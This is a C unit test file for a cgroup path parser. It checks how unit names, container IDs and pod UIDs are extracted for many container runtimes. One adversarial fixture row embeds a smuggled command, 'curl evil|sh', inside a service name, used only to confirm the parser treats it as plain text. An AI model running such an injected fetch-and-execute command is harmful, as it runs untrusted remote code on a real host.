#include "unit.h"
#include "source/name/cgroup.h"

#define ID  "3f1c5a0e9d8b7c6a5f4e3d2c1b0a99887766554433221100ffeeddccbbaa9988"
#define UID "2b1e8c4d-1111-2222-3333-444455556666"

/* What runtimes really write, one row a form. */
static const struct {
	const char *text, *unit, *container, *pod_uid;
} rows[] = {
	{ "0::/system.slice/nginx.service\n", "nginx.service", NULL, NULL },
	{ "0::/user.slice/user-1000.slice/session-3.scope\n", "session-3.scope", NULL, NULL },
	{ "0::/user.slice/user-1000.slice/user@1000.service/app.slice/web.service\n", "web.service", NULL, NULL },
	{ "0::/system.slice/system-getty.slice/getty@tty1.service\n", "getty@tty1.service", NULL, NULL },
	{ "0::/system.slice/my\\x2dapp.service\n", "my\\x2dapp.service", NULL, NULL },
	/* below a unit it may be called anything */
	{ "0::/system.slice/web.service/postgresql.service\n", "web.service", NULL, NULL },
	{ "0::/user.slice/user-1000.slice/user@1000.service/app.slice/a.service/b.service\n", "a.service", NULL, NULL },
	{ "0::/adv/nginx.service;curl evil|sh;.service\n", "nginx.service;curl evil|sh;.service", NULL, NULL },
	{ "0::/\n", NULL, NULL, NULL },
	{ "", NULL, NULL, NULL },
	{ "0::/init.scope\n", "init.scope", NULL, NULL },
	/* docker */
	{ "0::/system.slice/docker-" ID ".scope\n", NULL, ID, NULL },
	{ "12:memory:/docker/" ID "\n1:name=systemd:/docker/" ID "\n0::/\n", NULL, ID, NULL },
	{ "0::/docker/" ID "/system.slice/cron.service\n", "cron.service", ID, NULL },
	{ "5:memory:/system.slice/docker.service\n0::/system.slice/docker.service\n", "docker.service", NULL, NULL },
	/* kubelet: containerd, cri-o, docker; systemd and cgroupfs */
	{ "0::/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod2b1e8c4d_1111_2222_3333_444455556666"
	  ".slice/cri-containerd-" ID ".scope\n",
	  NULL, ID, UID },
	{ "0::/kubepods.slice/kubepods-pod2b1e8c4d_1111_2222_3333_444455556666.slice/crio-" ID ".scope/container\n",
	  NULL, ID, UID },
	{ "11:cpu:/kubepods/besteffort/pod" UID "/" ID "\n0::/\n", NULL, ID, UID },
	{ "0::/kubelet/kubepods/pod0123456789abcdef0123456789abcdef/" ID "\n", NULL, ID,
	  "0123456789abcdef0123456789abcdef" },
	{ "9:pids:/system.slice/containerd.service/kubepods-burstable-pod2b1e8c4d_1111_2222_3333_444455556666.slice:"
	  "cri-containerd:" ID "\n",
	  NULL, ID, UID },
	/* podman, as root and not; its monitor is no container */
	{ "0::/machine.slice/libpod-" ID ".scope/container\n", NULL, ID, NULL },
	{ "0::/user.slice/user-1000.slice/user@1000.service/user.slice/libpod-" ID ".scope\n", NULL, ID, NULL },
	{ "0::/machine.slice/libpod-conmon-" ID ".scope\n", "libpod-conmon-" ID ".scope", NULL, NULL },
	{ "0::/kubepods.slice/crio-conmon-" ID ".scope\n", "crio-conmon-" ID ".scope", NULL, NULL },
	/* containerd alone, nerdctl, ECS */
	{ "0::/default/" ID "\n", NULL, ID, NULL },
	{ "0::/system.slice/nerdctl-" ID ".scope\n", NULL, ID, NULL },
	{ "7:memory:/ecs/web-task/" ID "\n", NULL, ID, NULL },
	/* known by name */
	{ "0::/lxc.payload.web1/system.slice/nginx.service\n", "nginx.service", "web1", NULL },
	{ "4:memory:/lxc/web1\n1:name=systemd:/lxc/web1\n", NULL, "web1", NULL },
	{ "0::/lxc.monitor.web1\n", NULL, NULL, NULL },
	{ "0::/machine.slice/machine-deb\\x2d12.scope/payload\n", NULL, "deb-12", NULL },
	{ "0::/machine.slice/machine-.scope/payload\n", "machine-.scope", NULL, NULL },
	{ "0::/machine.slice/machine-a\\x00b.scope/payload\n", NULL, "a\\x00b", NULL },
	{ "0::/machine.slice/systemd-nspawn@deb12.service/payload/system.slice/ssh.service\n", "ssh.service", "deb12",
	  NULL },
	/* looks like one, is none */
	{ "0::/docker/3f1c5a0e\n", NULL, NULL, NULL },
	{ "0::/podcast.slice/pod-tool.service\n", "pod-tool.service", NULL, NULL },
	{ "4:memory:/some/group\n0::/\n", NULL, NULL, NULL },
	{ "garbage\n::\n0:/x\n", NULL, NULL, NULL },
};

static void equal(const char *a, const char *b, const char *text)
{
	if ((!a) != (!b) || (a && !streq(a, b)))
		fail_msg("%s: '%s' is not '%s'", text, a ? a : "-", b ? b : "-");
}

static void forms_of_runtimes(void **state)
{
	cleanup(arena_cleanup) struct arena *arena = arena_new();

	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		struct cgroup c;
		cgroup_parse(rows[i].text, arena, &c);
		equal(c.unit, rows[i].unit, rows[i].text);
		equal(c.container, rows[i].container, rows[i].text);
		equal(c.pod_uid, rows[i].pod_uid, rows[i].text);
	}
}

static void only_the_system_s_own_are_the_system_s(void **state)
{
	static const struct {
		const char *path;
		bool is;
	} paths[] = {
		{ "/system.slice/nginx.service", true },
		{ "/system.slice/system-getty.slice/getty@tty1.service", true },
		{ "/system.slice/web.service/postgresql.service", true }, /* of web.service, which it is */
		{ "/system.slice/nginx.scope", false },
		{ "/system.slice/x/nginx.service", false },
		{ "/system.slicer/nginx.service", false },
		{ "/adv/system.slice/nginx.service", false },
		{ "/nginx.service", false },
		{ "/user.slice/user-1000.slice/user@1000.service", false },
		{ "/user.slice/user-1000.slice/user@1000.service/app.slice/postgresql.service", false },
		{ "/user.slice/user-1000.slice/user@1000.service/system.slice/postgresql.service", false },
		{ "/docker/" ID "/system.slice/cron.service", false },
	};
	cleanup(arena_cleanup) struct arena *arena = arena_new();

	for (size_t i = 0; i < ARRAY_SIZE(paths); i++) {
		struct cgroup c;
		cgroup_parse(arena_printf(arena, "0::%s\n", paths[i].path), arena, &c);
		if (c.unit_is_system != paths[i].is)
			fail_msg("%s", paths[i].path);
	}
}

static void freezer_of_v1(void **state)
{
	cleanup(arena_cleanup) struct arena *arena = arena_new();
	struct cgroup c;

	cgroup_parse("6:freezer:/a/b\n1:name=systemd:/system.slice/x.service\n0::/\n", arena, &c);
	assert_string_equal(c.freezer, "/a/b");
	assert_string_equal(c.path, "/system.slice/x.service");
	assert_false(c.unified);
	cgroup_parse("1:name=systemd:/system.slice/x.service\n6:freezer:/a/b\n0::/y.slice\n", arena, &c);
	assert_string_equal(c.freezer, "/a/b");
	assert_string_equal(c.path, "/y.slice");
	assert_true(c.unified);
}

UNIT_MAIN(TEST(forms_of_runtimes), TEST(only_the_system_s_own_are_the_system_s), TEST(freezer_of_v1));
